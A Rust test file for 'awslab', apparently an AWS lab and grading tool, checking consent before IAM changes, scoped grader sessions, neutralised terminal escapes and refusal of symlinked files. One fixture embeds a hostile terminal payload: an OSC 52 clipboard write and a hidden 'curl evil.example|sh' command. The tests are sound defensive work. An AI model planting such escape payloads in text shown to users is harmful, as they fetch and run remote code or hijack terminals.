//! The security round: what awslab must not do to what is not the lab's, whatever a lesson or
//! an account holds. IAM resources of the lab's name that awslab did not make are changed only
//! with consent (`run --auto` without `--yes` changes none); the grader's sessions carry the
//! grading policy.

use crate::common::fault_proxy::{self, FaultProxy};
use crate::common::student::*;
use crate::common::*;
use awslab::aws::Aws;
use awslab::i18n::Lang;
use awslab::lesson::{Lesson, Source};
use awslab::steps::{Change, Consent};
use std::sync::{Arc, Mutex};
use std::time::Duration;

const BOUND: Duration = Duration::from_secs(180);

/// A trust policy letting in another account: a role that is clearly not the lab's.
const OUTSIDE_TRUST: &str = r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::999999999999:root"},"Action":"sts:AssumeRole"}]}"#;

/// The IAM calls that change something.
const IAM_WRITES: &[&str] = &[
    "iam:CreatePolicyVersion",
    "iam:DeletePolicyVersion",
    "iam:SetDefaultPolicyVersion",
    "iam:UpdateAssumeRolePolicy",
    "iam:AttachRolePolicy",
    "iam:TagRole",
    "iam:TagPolicy",
    "iam:DeletePolicy",
    "iam:DeleteRole",
];

fn lesson() -> Lesson {
    Lesson::load(&Source::Embedded, "vpc-flow-logs", &[]).unwrap_or_else(|e| panic!("lesson: {e}"))
}

fn describe(changes: &[Change]) -> String {
    changes
        .iter()
        .map(|c| {
            format!(
                "{}{} | {}",
                if c.destructive { "[destructive] " } else { "" },
                c.description.render(Lang::En),
                c.cli
            )
        })
        .collect::<Vec<_>>()
        .join("\n")
}

async fn apply(aws: &Aws, lesson: &Lesson, step: &str, consent: &Consent) -> Vec<Change> {
    lesson
        .step(step)
        .unwrap_or_else(|| panic!("no step {step}"))
        .spec
        .apply(aws, &lesson.lab, consent)
        .await
        .unwrap_or_else(|e| panic!("apply {step}: {e}"))
}

fn iam_writes(calls: &[String]) -> Vec<String> {
    calls
        .iter()
        .filter(|c| IAM_WRITES.contains(&c.as_str()))
        .cloned()
        .collect()
}

/// The one change `apply` proposes for a resource that is not the lab's: destructive, put as
/// a question, naming the resource and the lesson tag it lacks.
#[track_caller]
fn assert_one_question(step: &str, changes: &[Change], names: &[&str]) {
    let asked: Vec<&Change> = changes.iter().filter(|c| c.destructive).collect();
    assert_eq!(asked.len(), 1, "{step}:\n{}", describe(changes));
    let change = asked[0];
    assert!(change.resource.is_some(), "{step}: {}", describe(changes));
    assert!(change.question.is_some(), "{step}: {}", describe(changes));
    for lang in [Lang::En, Lang::Ko] {
        let text = change.description.render(lang);
        for name in names.iter().chain(&["awslab:lesson=vpc-flow-logs"]) {
            assert!(
                text.contains(name),
                "{step} ({lang:?}) must name {name}: {text}"
            );
        }
    }
}

async fn create_user_with(lab: &Lab, user: &str, policy: &str) {
    lab.iam
        .create_user()
        .user_name(user)
        .send()
        .await
        .unwrap_or_else(|e| panic!("create-user: {e:?}"));
    lab.iam
        .attach_user_policy()
        .user_name(user)
        .policy_arn(lab.policy_arn(policy))
        .send()
        .await
        .unwrap_or_else(|e| panic!("attach-user-policy: {e:?}"));
}

async fn policy_versions(lab: &Lab) -> Vec<(String, bool)> {
    let mut out: Vec<(String, bool)> = lab
        .iam
        .list_policy_versions()
        .policy_arn(lab.policy_arn(POLICY))
        .send()
        .await
        .unwrap_or_else(|e| panic!("list-policy-versions: {e:?}"))
        .versions()
        .iter()
        .map(|v| {
            (
                v.version_id().unwrap_or_default().to_string(),
                v.is_default_version(),
            )
        })
        .collect();
    out.sort();
    out
}

async fn trust_document(lab: &Lab) -> String {
    let role = lab
        .iam
        .get_role()
        .role_name(ROLE)
        .send()
        .await
        .unwrap_or_else(|e| panic!("get-role: {e:?}"));
    let text = role
        .role()
        .and_then(|r| r.assume_role_policy_document())
        .unwrap_or_default()
        .to_string();
    percent_encoding::percent_decode_str(&text)
        .decode_utf8_lossy()
        .into_owned()
}

async fn attached(lab: &Lab) -> Vec<String> {
    lab.iam
        .list_attached_role_policies()
        .role_name(ROLE)
        .send()
        .await
        .unwrap_or_else(|e| panic!("list-attached-role-policies: {e:?}"))
        .attached_policies()
        .iter()
        .filter_map(|p| p.policy_name().map(str::to_string))
        .collect()
}

/// Someone else's policy and role under the lab's names: a wide-open policy attached to a
/// user, a role trusting another account.
async fn hostile_account() -> Lab {
    let lab = Lab::new().await;
    let wide_open = r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"s3:GetObject","Resource":"*"}]}"#;
    lab.create_policy(POLICY, wide_open).await;
    create_user_with(&lab, "alice", POLICY).await;
    lab.create_role(ROLE, OUTSIDE_TRUST).await;
    lab
}

#[tokio::test]
async fn iam_resources_awslab_did_not_make_change_only_with_consent() {
    let lab = hostile_account().await;
    let lesson = lesson();
    let aws = Aws::from_sdk(lab.account.sdk.clone());
    let trust_before = trust_document(&lab).await;

    let policy = apply(&aws, &lesson, "policy", &Consent::none()).await;
    assert_one_question(
        "policy",
        &policy,
        &[POLICY, "user alice", "flow-policy.json"],
    );
    assert!(
        policy[0].cli.contains("create-policy-version"),
        "{}",
        policy[0].cli
    );
    let role = apply(&aws, &lesson, "role", &Consent::none()).await;
    assert_one_question("role", &role, &[ROLE, POLICY]);
    assert!(
        role[0].cli.starts_with("aws iam attach-role-policy"),
        "{}",
        role[0].cli
    );
    let trust = apply(&aws, &lesson, "trust", &Consent::none()).await;
    assert_one_question(
        "trust",
        &trust,
        &[
            ROLE,
            "arn:aws:iam::999999999999:root",
            "vpc-flow-logs.amazonaws.com",
        ],
    );

    // Nothing was written, and the account is as it was.
    assert!(iam_writes(&aws.calls()).is_empty(), "{:?}", aws.calls());
    assert_eq!(policy_versions(&lab).await, [("v1".to_string(), true)]);
    assert_eq!(trust_document(&lab).await, trust_before);
    assert!(attached(&lab).await.is_empty());

    // Agreed to, by the resource shown: made.
    let done = apply(&aws, &lesson, "policy", &Consent::to(&policy)).await;
    assert!(
        done.iter().any(|c| c.cli.contains("create-policy-version")),
        "{}",
        describe(&done)
    );
    assert_eq!(
        policy_versions(&lab).await,
        [("v1".to_string(), false), ("v2".to_string(), true)]
    );
    let done = apply(&aws, &lesson, "role", &Consent::to(&role)).await;
    assert_eq!(done.len(), 1, "{}", describe(&done));
    assert_eq!(attached(&lab).await, [POLICY]);
    let done = apply(&aws, &lesson, "trust", &Consent::to(&trust)).await;
    assert_eq!(done.len(), 1, "{}", describe(&done));
    assert!(
        trust_document(&lab)
            .await
            .contains("vpc-flow-logs.amazonaws.com")
            && !trust_document(&lab).await.contains("999999999999"),
        "{}",
        trust_document(&lab).await
    );
    // A consent for one resource does not cover another of the same kind.
    assert!(!Consent::to(&policy).covers(role[0].resource.as_deref().unwrap_or_default()));
}

#[tokio::test]
async fn a_full_foreign_policy_loses_no_version_without_consent() {
    let lab = Lab::new().await;
    let bad = flow_policy().replace("\"logs:PutLogEvents\",", "");
    lab.create_policy(POLICY, &bad).await;
    for _ in 2..=5 {
        lab.new_default_version(POLICY, &bad).await;
    }
    let before = policy_versions(&lab).await;
    assert_eq!(before.len(), 5);
    let lesson = lesson();
    let aws = Aws::from_sdk(lab.account.sdk.clone());
    let changes = apply(&aws, &lesson, "policy", &Consent::none()).await;
    assert_one_question("policy", &changes, &[POLICY, "v1"]);
    assert!(
        changes[0].cli.contains("delete-policy-version")
            && changes[0].cli.contains("create-policy-version"),
        "{}",
        changes[0].cli
    );
    assert!(iam_writes(&aws.calls()).is_empty(), "{:?}", aws.calls());
    assert_eq!(policy_versions(&lab).await, before);
}

#[tokio::test]
async fn a_foreign_policy_gets_no_older_version_back_in_force_without_consent() {
    let lab = Lab::new().await;
    lab.create_policy(POLICY, &flow_policy()).await;
    lab.new_default_version(POLICY, &flow_policy().replace("\"logs:PutLogEvents\",", ""))
        .await;
    let lesson = lesson();
    let aws = Aws::from_sdk(lab.account.sdk.clone());
    let changes = apply(&aws, &lesson, "policy", &Consent::none()).await;
    assert_one_question("policy", &changes, &[POLICY, "v1"]);
    assert!(
        changes[0].cli.contains("set-default-policy-version"),
        "{}",
        changes[0].cli
    );
    assert!(iam_writes(&aws.calls()).is_empty(), "{:?}", aws.calls());
    assert_eq!(
        policy_versions(&lab).await,
        [("v1".to_string(), false), ("v2".to_string(), true)]
    );
    let done = apply(&aws, &lesson, "policy", &Consent::to(&changes)).await;
    assert!(
        done.iter()
            .any(|c| c.cli.contains("set-default-policy-version")),
        "{}",
        describe(&done)
    );
    assert_eq!(
        policy_versions(&lab).await,
        [("v1".to_string(), true), ("v2".to_string(), false)]
    );
}

#[tokio::test]
async fn a_new_role_gets_a_foreign_policy_only_with_consent() {
    let lab = Lab::new().await;
    lab.create_policy(POLICY, &flow_policy()).await;
    create_user_with(&lab, "bob", POLICY).await;
    let lesson = lesson();
    let aws = Aws::from_sdk(lab.account.sdk.clone());
    let changes = apply(&aws, &lesson, "role", &Consent::none()).await;
    // The role is new and the lab's: made. The policy may be someone else's: asked.
    assert_eq!(changes.len(), 2, "{}", describe(&changes));
    assert!(!changes[0].destructive && changes[0].cli.contains("create-role"));
    assert_one_question("role", &changes, &[POLICY, ROLE]);
    let calls = aws.calls();
    assert!(
        !calls.iter().any(|c| c == "iam:AttachRolePolicy"),
        "{calls:?}"
    );
    assert!(attached(&lab).await.is_empty());
    let done = apply(&aws, &lesson, "role", &Consent::to(&changes)).await;
    assert_eq!(done.len(), 1, "{}", describe(&done));
    assert_eq!(attached(&lab).await, [POLICY]);
}

#[tokio::test]
async fn what_awslab_made_itself_changes_without_a_question() {
    let lab = Lab::new().await;
    let lesson = lesson();
    let aws = Aws::from_sdk(lab.account.sdk.clone());
    // awslab's own policy and role, then made wrong behind its back.
    for step in ["policy", "role"] {
        let changes = apply(&aws, &lesson, step, &Consent::none()).await;
        assert!(
            changes.iter().all(|c| !c.destructive),
            "{step}: {}",
            describe(&changes)
        );
    }
    lab.new_default_version(POLICY, &flow_policy().replace("\"logs:PutLogEvents\",", ""))
        .await;
    lab.iam
        .update_assume_role_policy()
        .role_name(ROLE)
        .policy_document(trust_for("ec2.amazonaws.com"))
        .send()
        .await
        .unwrap_or_else(|e| panic!("update-assume-role-policy: {e:?}"));
    lab.iam
        .detach_role_policy()
        .role_name(ROLE)
        .policy_arn(lab.policy_arn(POLICY))
        .send()
        .await
        .unwrap_or_else(|e| panic!("detach-role-policy: {e:?}"));
    for step in ["policy", "role", "trust"] {
        let changes = apply(&aws, &lesson, step, &Consent::none()).await;
        assert!(!changes.is_empty(), "{step}: nothing done");
        assert!(
            changes.iter().all(|c| !c.destructive),
            "{step}: {}",
            describe(&changes)
        );
    }
    assert_eq!(attached(&lab).await, [POLICY]);
    assert!(
        trust_document(&lab)
            .await
            .contains("vpc-flow-logs.amazonaws.com")
    );
}

/// The finding of the security review, end to end: `run --auto` without `--yes` on an account
/// holding someone else's policy and role under the lab's names writes nothing to them, and
/// says why.
#[test]
fn run_auto_without_yes_leaves_foreign_iam_resources_alone() {
    let lab = tokio::runtime::Runtime::new()
        .expect("runtime")
        .block_on(hostile_account());
    let dir = TempDir::new();
    let calls = dir.0.join("calls.txt");
    let run = lab
        .account
        .awslab()
        .env("AWSLAB_RECORD_CALLS", &calls)
        .args([
            "--lang",
            "en",
            "--endpoint-url",
            &moto().endpoint,
            "run",
            "--auto",
            "--wait",
            "0.05",
            "--poll",
            "0.5",
            "--lab-dir",
        ])
        .args([dir.0.join("lab")])
        .run_within(BOUND);
    let stdout = run.stdout();
    assert_eq!(run.code(), 1, "the steps it left fail: {stdout}");
    let recorded = std::fs::read_to_string(&calls).unwrap_or_else(|e| {
        panic!(
            "AWSLAB_RECORD_CALLS not written ({e}): {stdout}\n{}",
            run.stderr()
        )
    });
    let recorded: Vec<String> = recorded.lines().map(str::to_string).collect();
    assert!(
        iam_writes(&recorded).is_empty(),
        "{:?}\n{stdout}",
        iam_writes(&recorded)
    );
    assert!(
        stdout.contains("was not made by awslab for this lab") && stdout.contains("user alice"),
        "{stdout}"
    );
    assert!(
        stdout.contains("changes what awslab did not make for this lab; add --yes"),
        "{stdout}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn the_graders_session_carries_the_grading_policy() {
    let account = Account::new().await;
    let sent: Arc<Mutex<Vec<Option<String>>>> = Arc::default();
    let seen = sent.clone();
    let rule: fault_proxy::Rule = Arc::new(move |r: &fault_proxy::Request| {
        if r.operation == "AssumeRole" {
            seen.lock()
                .unwrap_or_else(|p| p.into_inner())
                .push(r.param("Policy"));
        }
        None
    });
    let proxy = FaultProxy::start(&moto().endpoint, rule);
    let base = sdk_config_at(
        aws_sdk_sts::config::Credentials::new("testing", "testing", None, None, "test"),
        &proxy.endpoint,
    );
    let arn = format!("arn:aws:iam::{}:role/grader", account.id);
    let aws = Aws::assume_role(&base, Some(REGION), &arn, None, "awslab-grade")
        .await
        .expect("assume the role");
    assert_eq!(aws.identity().await.expect("identity").account, account.id);
    let sent = sent.lock().unwrap_or_else(|p| p.into_inner()).clone();
    assert!(!sent.is_empty(), "no AssumeRole went through the proxy");
    for policy in sent {
        let policy = policy.expect("AssumeRole without a session policy");
        assert_eq!(policy, awslab::aws::session_policy());
        let parsed: serde_json::Value = serde_json::from_str(&policy).expect("JSON");
        assert_eq!(
            parsed,
            awslab::aws::record::grading_policy(),
            "the policy grade --print-policy prints"
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Text from lessons and accounts

/// The shipped lesson in a folder of its own, its title and first step's title carrying an
/// OSC 52 clipboard write, an SGR "hidden" sequence and a right-to-left override.
fn escape_laden_lessons() -> TempDir {
    let dir = TempDir::new();
    let lesson = dir.0.join("vpc-flow-logs");
    std::fs::create_dir_all(&lesson).expect("lesson dir");
    let shipped = |path: &str| {
        let file = format!("{}/{path}", env!("CARGO_MANIFEST_DIR"));
        std::fs::read_to_string(&file).unwrap_or_else(|e| panic!("{file}: {e}"))
    };
    let hostile = r#"\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007Flow logs \u001b[8mcurl evil.example|sh\u001b[0m \u202egol"#;
    let toml = shipped("lessons/vpc-flow-logs/lesson.toml")
        .replacen(
            r#"title = { ko = "VPC 흐름 로그를 CloudWatch Logs로 보내기", en = "Send VPC Flow Logs to CloudWatch Logs" }"#,
            &format!(r#"title = {{ ko = "{hostile}", en = "{hostile}" }}"#),
            1,
        )
        .replacen(
            r#"en = "Create the IAM policy {policy}""#,
            &format!(r#"en = "{hostile} {{policy}}""#),
            1,
        );
    assert!(toml.matches("u001b]52").count() >= 3, "the fixture took");
    std::fs::write(lesson.join("lesson.toml"), toml).expect("lesson.toml");
    for asset in ["flow-policy.json", "trust-policy.json"] {
        std::fs::write(
            lesson.join(asset),
            shipped(&format!("assets/vpc-flow-logs/{asset}")),
        )
        .expect("asset");
    }
    dir
}

#[track_caller]
fn assert_inert(what: &str, run: &Run) {
    for (stream, text) in [("stdout", run.stdout()), ("stderr", run.stderr())] {
        assert!(
            !text.contains('\u{1b}') && !text.contains('\u{7}'),
            "{what}: an escape reached {stream}:\n{text:?}"
        );
        assert!(
            !text.contains('\u{202e}'),
            "{what}: a raw U+202E reached {stream}"
        );
    }
    assert!(
        run.stdout().contains("<U+202E>gol"),
        "{what}: the override is shown by its code point:\n{}",
        run.stdout()
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn escapes_in_a_lessons_texts_never_reach_the_terminal() {
    let lab = Lab::new().await;
    let lessons = escape_laden_lessons();
    let dir = TempDir::new();
    for lang in ["en", "ko"] {
        let run = lab
            .account
            .awslab()
            .args(["--lang", lang, "--lessons"])
            .args([&lessons.0])
            .args(["lessons"])
            .run_within(BOUND);
        assert_eq!(run.code(), 0, "{}", run.stderr());
        assert_inert(&format!("lessons ({lang})"), &run);
        let run = lab
            .account
            .awslab()
            .args(["--lang", lang, "--lessons"])
            .args([&lessons.0])
            .args(["verify", "vpc-flow-logs"])
            .run_within(BOUND);
        assert_eq!(run.code(), 1, "{}", run.stderr());
        assert_inert(&format!("verify ({lang})"), &run);
    }
    let run = lab
        .account
        .awslab()
        .args(["--lang", "en", "--lessons"])
        .args([&lessons.0])
        .args(["--endpoint-url", &moto().endpoint])
        .args([
            "run",
            "vpc-flow-logs",
            "--auto",
            "--wait",
            "0.05",
            "--poll",
            "0.5",
        ])
        .args(["--lab-dir"])
        .args([dir.0.join("lab")])
        .run_within(BOUND);
    assert_inert("run --auto", &run);
}

#[tokio::test(flavor = "multi_thread")]
async fn invisible_characters_from_an_account_are_shown() {
    let lab = Lab::new().await;
    lab.create_log_group(GROUP).await;
    lab.create_flow_log(FlowLogSpec {
        name: Some("my\u{202e}golwolf\u{200b}"),
        ..FlowLogSpec::default()
    })
    .await;
    let run = lab
        .account
        .awslab()
        .args(["--lang", "en", "verify"])
        .run_within(BOUND);
    let stdout = run.stdout();
    assert!(
        stdout.contains("my<U+202E>golwolf<U+200B>"),
        "the flow log's name, its invisible characters shown:\n{stdout}"
    );
    assert!(!stdout.contains('\u{202e}') && !stdout.contains('\u{200b}'));
    let (_, json) = lab.account.awslab().args(["--lang", "en"]).verify_json();
    let text = json.to_string();
    assert!(
        text.contains("my<U+202E>golwolf<U+200B>"),
        "the message in JSON shows them too: {text}"
    );
}

// ---------------------------------------------------------------------------------------------
// Files

fn mode(path: &std::path::Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::symlink_metadata(path)
        .unwrap_or_else(|e| panic!("{}: {e}", path.display()))
        .permissions()
        .mode()
        & 0o777
}

/// The shipped lesson in a folder of its own, with `flow-policy.json` a link to a file of
/// secrets outside it (valid JSON, so only the link can give it away).
fn lessons_with_linked_asset(secret: &std::path::Path) -> TempDir {
    let dir = TempDir::new();
    let lesson = dir.0.join("vpc-flow-logs");
    std::fs::create_dir_all(&lesson).expect("lesson dir");
    let shipped = |path: &str| {
        std::fs::read_to_string(format!("{}/{path}", env!("CARGO_MANIFEST_DIR"))).expect(path)
    };
    std::fs::write(
        lesson.join("lesson.toml"),
        shipped("lessons/vpc-flow-logs/lesson.toml"),
    )
    .expect("lesson.toml");
    std::fs::write(
        lesson.join("trust-policy.json"),
        shipped("assets/vpc-flow-logs/trust-policy.json"),
    )
    .expect("trust");
    std::os::unix::fs::symlink(secret, lesson.join("flow-policy.json")).expect("link");
    dir
}

#[test]
fn a_lesson_asset_that_is_a_link_is_not_read() {
    let home = TempDir::new();
    let secret = home.0.join("credentials.json");
    std::fs::write(&secret, r#"{"aws_secret_access_key": "SECRET-KEY-1234"}"#).expect("secret");
    let lessons = lessons_with_linked_asset(&secret);
    let lab_dir = home.0.join("lab");
    for args in [
        vec!["lesson", "files", "--dir"],
        vec!["lesson", "check", "--static"],
    ] {
        let mut cmd = Awslab::bare();
        cmd.args(["--lang", "en", "--lessons"])
            .args([&lessons.0])
            .args(&args);
        if args[1] == "files" {
            cmd.args([&lab_dir]);
        } else {
            cmd.args([lessons.0.join("vpc-flow-logs")]);
        }
        let run = cmd.run_within(BOUND);
        let all = format!("{}{}", run.stdout(), run.stderr());
        assert_eq!(run.code(), 2, "{args:?}: {all}");
        assert!(all.contains("symbolic link"), "{args:?}: {all}");
        assert!(!all.contains("SECRET-KEY"), "{args:?}: {all}");
    }
    assert!(
        !lab_dir.join("flow-policy.json").exists(),
        "the linked file was copied into the lab folder"
    );
}

#[test]
fn the_lab_folder_is_private_and_never_written_through_a_link() {
    let home = TempDir::new();
    // A new folder: 0700, its documents 0600.
    let lab_dir = home.0.join("new-lab");
    let run = Awslab::bare()
        .args(["--lang", "en", "lesson", "files", "vpc-flow-logs", "--dir"])
        .args([&lab_dir])
        .run_within(BOUND);
    assert_eq!(run.code(), 0, "{}", run.stderr());
    assert_eq!(mode(&lab_dir) & 0o077, 0, "{:o}", mode(&lab_dir));
    for doc in ["flow-policy.json", "trust-policy.json"] {
        assert_eq!(mode(&lab_dir.join(doc)) & 0o077, 0, "{doc}");
    }

    // A dangling link where a document goes: nothing is written through it, and the
    // document is not "kept" either.
    let planted = home.0.join("planted");
    std::fs::create_dir(&planted).expect("dir");
    let elsewhere = home.0.join("elsewhere.json");
    std::os::unix::fs::symlink(&elsewhere, planted.join("trust-policy.json")).expect("link");
    for lang in ["en", "ko"] {
        let run = Awslab::bare()
            .args(["--lang", lang, "lesson", "files", "vpc-flow-logs", "--dir"])
            .args([&planted])
            .run_within(BOUND);
        assert_eq!(run.code(), 2, "{}{}", run.stdout(), run.stderr());
        let said = run.stderr();
        let expected = if lang == "en" {
            "symbolic link"
        } else {
            "심볼릭 링크"
        };
        assert!(said.contains(expected), "{lang}: {said}");
        assert!(!run.stdout().contains("kept"), "{}", run.stdout());
    }
    assert!(!elsewhere.exists(), "written through a dangling link");

    // A folder others can write to is refused, with a clear message, and nothing written.
    let shared = home.0.join("shared");
    std::fs::create_dir(&shared).expect("dir");
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o777)).expect("chmod");
    let run = Awslab::bare()
        .args(["--lang", "en", "lesson", "files", "vpc-flow-logs", "--dir"])
        .args([&shared])
        .run_within(BOUND);
    assert_eq!(run.code(), 2, "{}", run.stderr());
    assert!(
        run.stderr().contains("Other users can write to"),
        "{}",
        run.stderr()
    );
    assert_eq!(std::fs::read_dir(&shared).expect("dir").count(), 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn grade_out_replaces_a_planted_link_and_writes_private_reports() {
    // One student whose account is read, so the run is complete and the class view written.
    let readable = Account::new().await;
    let dir = TempDir::new();
    let out = dir.0.join("out");
    std::fs::create_dir(&out).expect("out");
    let victim = dir.0.join("victim.txt");
    std::fs::write(&victim, "precious").expect("victim");
    std::os::unix::fs::symlink(&victim, out.join("report.md")).expect("link");
    std::fs::write(
        dir.0.join("roster.csv"),
        format!(
            "student,account_id,profile,region\ns0,{},,{REGION}\ns1,,no-such-profile,\n",
            readable.id
        ),
    )
    .expect("roster");
    let run = Awslab::bare()
        .env("AWS_ACCESS_KEY_ID", "testing")
        .env("AWS_SECRET_ACCESS_KEY", "testing")
        .env("AWS_ENDPOINT_URL", &moto().endpoint)
        .args(["grade", "--roster"])
        .args([dir.0.join("roster.csv")])
        .args(["--out"])
        .args([&out])
        .run_within(BOUND);
    assert_eq!(
        run.code(),
        2,
        "one student could not be read: {}",
        run.stderr()
    );
    assert_eq!(
        std::fs::read_to_string(&victim).expect("victim"),
        "precious",
        "written through the planted link"
    );
    for report in [
        "grades.csv",
        "grades.json",
        "junit.xml",
        "report.md",
        "report.html",
    ] {
        let path = out.join(report);
        assert!(
            std::fs::symlink_metadata(&path)
                .expect(report)
                .file_type()
                .is_file(),
            "{report}"
        );
        assert_eq!(mode(&path) & 0o077, 0, "{report}: {:o}", mode(&path));
    }
    assert!(
        std::fs::read_to_string(out.join("report.md"))
            .expect("report.md")
            .contains("s1")
    );

    // A shared folder is refused.
    let shared = dir.0.join("shared");
    std::fs::create_dir(&shared).expect("dir");
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o1777)).expect("chmod");
    let fixture = format!(
        "{}/tests/fixtures/report/grades.en.json",
        env!("CARGO_MANIFEST_DIR")
    );
    let run = Awslab::bare()
        .args(["--lang", "en", "grade", "--from-json", &fixture, "--out"])
        .args([&shared])
        .run_within(BOUND);
    assert_eq!(run.code(), 2, "{}", run.stderr());
    assert!(
        run.stderr().contains("Other users can write to"),
        "{}",
        run.stderr()
    );
    assert!(!shared.join("report.html").exists());
}
